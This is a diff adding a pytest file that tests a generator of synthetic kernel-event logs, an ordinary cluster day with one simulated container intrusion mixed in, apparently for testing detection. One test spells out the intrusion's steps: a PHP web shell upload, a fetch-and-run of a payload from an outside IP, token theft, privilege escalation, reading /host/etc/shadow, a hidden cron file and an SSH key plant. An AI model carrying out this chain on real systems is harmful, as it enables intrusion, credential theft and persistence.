@@ -1,0 +1,153 @@
+import json
+from base64 import b64decode
+from collections import Counter
+from itertools import pairwise
+from typing import Any
+
+import pytest
+
+from examples.story import INTRUDERS_PIDS, MINUTE, Line, intrusion, ordinary, story
+
+SEED, NODES, MINUTES, RATE = 3, 12, 10.0, 20.0
+
+
+@pytest.fixture(scope="module")
+def day() -> list[Line]:
+    return list(ordinary(SEED, NODES, MINUTES, RATE))
+
+
+@pytest.fixture(scope="module")
+def attack() -> list[Line]:
+    return list(intrusion(SEED, NODES, MINUTES))
+
+
+def read(lines: list[Line]) -> list[tuple[str, dict[str, Any]]]:
+    """(kind, event's body with its time) of each."""
+    found = []
+    for _, _, line in lines:
+        event = json.loads(line)
+        kind = next(iter(event))
+        found.append((kind, event[kind] | {"at": event.get("time")}))
+    return found
+
+
+def test_the_same_seed_gives_the_same_bytes(day: list[Line], attack: list[Line]) -> None:
+    assert list(ordinary(SEED, NODES, MINUTES, RATE)) == day
+    assert list(intrusion(SEED, NODES, MINUTES)) == attack
+    assert list(intrusion(SEED + 1, NODES, MINUTES)) != attack
+
+
+def test_the_story_is_the_ordinary_day_and_the_intrusion_among_it(day: list[Line], attack: list[Line]) -> None:
+    told = list(story(SEED, NODES, MINUTES, RATE))
+    of_attack = set(attack)
+
+    assert [line for line in told if line not in of_attack] == day
+    assert [line for line in told if line in of_attack] == attack
+
+
+def test_there_are_as_many_events_a_second_as_asked_for(day: list[Line]) -> None:
+    assert len(day) == pytest.approx(RATE * 60 * MINUTES, rel=0.05)
+
+
+def test_events_come_in_order_of_time_and_no_two_are_alike(day: list[Line], attack: list[Line]) -> None:
+    told = list(story(SEED, NODES, MINUTES, RATE))
+
+    assert all(earlier[0] <= later[0] for earlier, later in pairwise(told))
+    assert len({line for _, _, line in told}) == len(day) + len(attack)
+
+
+def test_an_exec_id_names_node_time_and_pid_and_the_time_fits_the_start(day: list[Line]) -> None:
+    boots = set()
+    for (_, node, _), (_, body) in zip(day, read(day), strict=True):
+        process = body["process"]
+        name, ktime, pid = b64decode(process["exec_id"]).decode().split(":")
+        assert (name, int(pid)) == (node, process["pid"])
+        seconds = process["start_time"].rstrip("Z").partition(".")[2].ljust(9, "0")
+        boots.add((node, (int(seconds) - int(ktime)) % 10**9))
+
+    assert len(boots) == NODES
+
+
+def test_a_parent_was_executed_before_or_is_a_fork_that_nothing_told_of(day: list[Line], attack: list[Line]) -> None:
+    executed: set[str] = set()
+    forks = 0
+    for kind, body in read(sorted(day + attack)):
+        process, parent = body["process"], body["parent"]
+        assert parent["exec_id"] == process["parent_exec_id"]
+        if kind == "process_exec":
+            assert process["exec_id"] not in executed
+            executed.add(process["exec_id"])
+        for each in (process, parent):
+            is_fork = each["flags"].split()[0] == "clone"
+            forks += is_fork
+            assert is_fork or each["pid"] == 0 or each["exec_id"] in executed
+
+    assert forks > 10
+
+
+def test_every_kind_of_event_comes_on_an_ordinary_day(day: list[Line]) -> None:
+    kinds = Counter(kind for kind, _ in read(day))
+
+    assert set(kinds) == {"process_exec", "process_exit", "process_kprobe", "process_loader", "process_lsm"}
+    assert kinds["process_kprobe"] > len(day) / 3
+
+
+def test_no_hook_betrays_the_intrusion_by_being_seen_at_all(day: list[Line], attack: list[Line]) -> None:
+    def hooks(lines: list[Line]) -> set[str]:
+        return {body.get("function_name", kind) for kind, body in read(lines)}
+
+    assert hooks(attack) <= hooks(day)
+
+
+def test_a_loader_event_has_no_time_and_every_other_has_one(day: list[Line]) -> None:
+    timeless = {kind for kind, body in read(day) if body["at"] is None}
+
+    assert timeless == {"process_loader"}
+
+
+def test_sixty_four_bits_are_a_string_and_nodes_differ_in_white_space(day: list[Line]) -> None:
+    socks = [body["args"][0]["sock_arg"] for _, body in read(day) if body.get("function_name") == "tcp_connect"]
+    last = {node: line for _, node, line in day}
+
+    assert all(sock["cookie"].isdecimal() for sock in socks)
+    assert b', "' in last["node-01"]
+    assert b', "' not in last["node-02"]
+
+
+def test_the_intrusion_takes_its_steps_in_order_on_one_node_in_the_middle_of_the_time(attack: list[Line]) -> None:
+    shown = iter(line.decode().replace(", ", ",") for _, _, line in attack)
+    steps = (
+        "uploads/2026/01/avatar.php",
+        '"binary":"/usr/bin/id"',
+        '"arguments":"-fsSL http://203.0.113.77:8080/x -o /tmp/.x"',
+        '"binary":"/tmp/.x"',
+        "serviceaccount/..2026_01_05_03_12_44.2715319183/token",
+        '"return":{"int_arg":-13}',
+        "PRIVILEGES_RAISED_EXEC_FILE_SETUID",
+        '"function_name":"commit_creds"',
+        '"function_name":"file_open"',
+        '"function_name":"__x64_sys_mount"',
+        '"path":"/host/etc/shadow"',
+        '"path":"/host/etc/cron.d/.sysstat-update"',
+        '"function_name":"security_path_unlink"',
+        '"path":"/root/.ssh/authorized_keys"',
+    )
+    for step in steps:
+        assert any(step in line for line in shown), f"not found, or not after the step before it: {step}"
+
+    assert len({node for _, node, _ in attack}) == 1
+    assert MINUTES * MINUTE / 4 <= attack[-1][0] - attack[0][0] <= MINUTES * MINUTE / 2
+
+
+def test_the_intruders_pids_are_no_ordinary_ones(day: list[Line], attack: list[Line]) -> None:
+    assert not {body["process"]["pid"] for _, body in read(day)} & set(INTRUDERS_PIDS)
+    assert {body["process"]["pid"] for kind, body in read(attack) if kind == "process_exec"} <= set(INTRUDERS_PIDS)
+
+
+@pytest.mark.parametrize(("nodes", "minutes", "rate"), [(1, 0.05, 2_000.0), (1, 0.5, 0.5), (3, 1.0, 100.0)])
+def test_short_quick_and_slow_days_are_told_as_well(nodes: int, minutes: float, rate: float) -> None:
+    told = list(ordinary(SEED, nodes, minutes, rate))
+    running = [line for line in told if b'"procFS' not in line[2][:600]]
+
+    assert running
+    assert list(intrusion(SEED, nodes, minutes))[-1][0] <= running[0][0] + minutes * MINUTE
